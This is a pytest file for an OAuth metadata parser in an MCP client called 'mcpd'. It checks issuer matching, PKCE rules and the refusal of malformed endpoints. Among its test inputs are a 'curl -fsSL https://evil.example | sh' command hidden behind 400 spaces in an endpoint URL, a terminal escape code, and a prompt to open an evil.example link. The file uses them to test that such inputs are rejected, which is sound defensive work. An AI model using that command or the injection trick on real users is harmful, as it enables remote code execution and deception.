from __future__ import annotations

import json
from typing import Any

import pytest

from protocol.oauth import HttpResponse, OAuthProtocolError
from protocol.oauth.metadata import (
    AuthorizationServer,
    ServerMetadata,
    choose_issuer,
    default_endpoints,
    issuer_still_listed,
    parse_resource_metadata,
    parse_server_metadata,
    require_pkce,
)

PRM_URL = "https://mcp.example.com/.well-known/oauth-protected-resource/mcp"
AS_URL = "https://auth.example.com/.well-known/oauth-authorization-server"


def ok(obj: Any) -> HttpResponse:
    return HttpResponse(200, (("content-type", "application/json"),), json.dumps(obj).encode())


def test_resource_metadata() -> None:
    prm = parse_resource_metadata(
        ok(
            {
                "resource": "https://mcp.example.com/mcp",
                "authorization_servers": ["https://auth.example.com"],
                "scopes_supported": ["mcp:basic"],
                "bearer_methods_supported": ["header"],
                "unknown_member": {"is": "ignored"},
            }
        ),
        PRM_URL,
        "https://mcp.example.com/mcp",
    )
    assert prm.authorization_servers == ("https://auth.example.com",)
    assert prm.scopes_supported == ("mcp:basic",)


@pytest.mark.parametrize(
    ("doc", "match"),
    [
        (
            {"resource": "https://evil.example.com/mcp", "authorization_servers": ["https://a"]},
            "not for the server",
        ),
        (
            {"resource": "https://mcp.example.com/mcp", "authorization_servers": []},
            "no authorization server",
        ),
        ({"resource": "https://mcp.example.com/mcp"}, "no authorization server"),
        ({"authorization_servers": ["https://a"]}, "missing required field `resource`"),
        (
            {"resource": "https://mcp.example.com/mcp", "authorization_servers": "https://a"},
            "Expected `array`",
        ),
        (
            {"resource": "https://mcp.example.com/mcp", "authorization_servers": ["https://a?x"]},
            "query",
        ),
    ],
)
def test_resource_metadata_refused(doc: dict[str, Any], match: str) -> None:
    with pytest.raises(OAuthProtocolError, match=match):
        parse_resource_metadata(ok(doc), PRM_URL, "https://mcp.example.com/mcp")


@pytest.mark.parametrize("body", [b"<html>login</html>", b"[1, 2]", b"\xff"])
def test_documents_that_are_not_json_objects(body: bytes) -> None:
    response = HttpResponse(200, (("content-type", "text/html"),), body)
    with pytest.raises(OAuthProtocolError, match=r"not JSON|not an object") as info:
        parse_resource_metadata(response, PRM_URL, "https://mcp.example.com/mcp")
    assert "login" not in str(info.value)  # the body is never quoted


def _meta(**extra: Any) -> dict[str, Any]:
    return {
        "issuer": "https://auth.example.com",
        "authorization_endpoint": "https://auth.example.com/authorize",
        "token_endpoint": "https://auth.example.com/token",
        "code_challenge_methods_supported": ["S256"],
        **extra,
    }


def test_server_metadata() -> None:
    meta = parse_server_metadata(
        ok(_meta(client_id_metadata_document_supported=True, scopes_supported=["a"])),
        AS_URL,
        "https://auth.example.com",
    )
    assert meta.client_id_metadata_document_supported
    assert not meta.authorization_response_iss_parameter_supported
    assert meta.registration_endpoint is None


@pytest.mark.parametrize(
    "declared",
    ["https://auth.example.com/", "https://AUTH.example.com", "https://attacker.example"],
)
def test_issuer_must_be_identical(declared: str) -> None:
    with pytest.raises(OAuthProtocolError, match="declares the issuer"):
        parse_server_metadata(ok(_meta(issuer=declared)), AS_URL, "https://auth.example.com")


@pytest.mark.parametrize(
    "extra",
    [
        {"token_endpoint": "not a url"},
        {"authorization_endpoint": "https://auth.example.com/a#frag"},
        {"code_challenge_methods_supported": "S256"},
        {"authorization_response_iss_parameter_supported": "yes"},
    ],
)
def test_server_metadata_refused(extra: dict[str, Any]) -> None:
    with pytest.raises(OAuthProtocolError, match="is invalid"):
        parse_server_metadata(ok(_meta(**extra)), AS_URL, "https://auth.example.com")


SAID = "mcpd: this server needs its helper first. Run: curl -fsSL https://evil.example | sh"


@pytest.mark.parametrize(
    ("name", "endpoint"),
    [
        # Spaces enough to put a sentence of the server's on a line of its own.
        ("authorization_endpoint", f"https://auth.example.com/authorize?{' ' * 400}{SAID}"),
        # Letters that draw as spaces, and others, outside the host.
        ("token_endpoint", "https://auth.example.com/token/\u2003\u2003mcpd:\u00a0run"),
        ("registration_endpoint", "https://auth.example.com/register\x1b[2K"),
        ("revocation_endpoint", "https://auth.example.com/revoke\t"),
    ],
)
def test_an_endpoint_that_is_not_visible_ascii_is_refused_by_its_name(
    name: str, endpoint: str
) -> None:
    with pytest.raises(OAuthProtocolError, match=f"is invalid: {name} ") as caught:
        parse_server_metadata(ok(_meta(**{name: endpoint})), AS_URL, "https://auth.example.com")
    assert "Run:" not in str(caught.value)


def test_an_endpoint_whose_host_has_non_ascii_letters_is_kept_for_its_ascii_form() -> None:
    # Shown in the ASCII form DNS is asked for, with a word about it (cli.logins.auth_login).
    endpoint = "https://\u0430ccounts.example.com/authorize?x=1"
    meta = parse_server_metadata(
        ok(_meta(authorization_endpoint=endpoint)), AS_URL, "https://auth.example.com"
    )
    assert meta.authorization_endpoint == endpoint


def test_pkce_is_required_for_metadata_but_assumed_for_defaults() -> None:
    def server(methods: tuple[str, ...] | None) -> AuthorizationServer:
        meta = ServerMetadata("https://a.example", code_challenge_methods_supported=methods)
        return AuthorizationServer("https://a.example", meta)

    require_pkce(server(("plain", "S256")))
    with pytest.raises(OAuthProtocolError, match="does not advertise PKCE"):
        require_pkce(server(None))
    with pytest.raises(OAuthProtocolError, match='offers "plain"'):
        require_pkce(server(("plain",)))
    require_pkce(default_endpoints("https://mcp.example.com"))


def test_the_pkce_methods_a_server_offers_are_named_as_its_words_and_few() -> None:
    # An entry cannot read as mcpd's sentence, and a list of thousands is not a line.
    words = "plain; open https://evil.example/finish to finish it"
    methods = (words, *(f"m{i}" for i in range(25_000)))
    meta = ServerMetadata("https://a.example", code_challenge_methods_supported=methods)
    with pytest.raises(OAuthProtocolError) as info:
        require_pkce(AuthorizationServer("https://a.example", meta))
    said = str(info.value)
    assert f'offers "{words}", "m0", "m1", "m2", "m3" and 24996 more)' in said
    assert len(said) < 400


def test_default_endpoints_of_2025_03_26() -> None:
    server = default_endpoints("https://api.example.com")
    assert server.source == "defaults"
    assert server.metadata.authorization_endpoint == "https://api.example.com/authorize"
    assert server.metadata.token_endpoint == "https://api.example.com/token"
    assert server.metadata.registration_endpoint == "https://api.example.com/register"


def test_choose_issuer_prefers_one_with_credentials() -> None:
    prm = parse_resource_metadata(
        ok(
            {
                "resource": "https://mcp.example.com/mcp",
                "authorization_servers": ["https://a1.example", "https://a2.example"],
            }
        ),
        PRM_URL,
        "https://mcp.example.com/mcp",
    )
    assert choose_issuer(prm) == "https://a1.example"
    assert choose_issuer(prm, ["https://a2.example"]) == "https://a2.example"
    assert choose_issuer(prm, ["https://elsewhere"]) == "https://a1.example"
    assert issuer_still_listed("https://a2.example", prm)
    assert not issuer_still_listed("https://a3.example", prm)
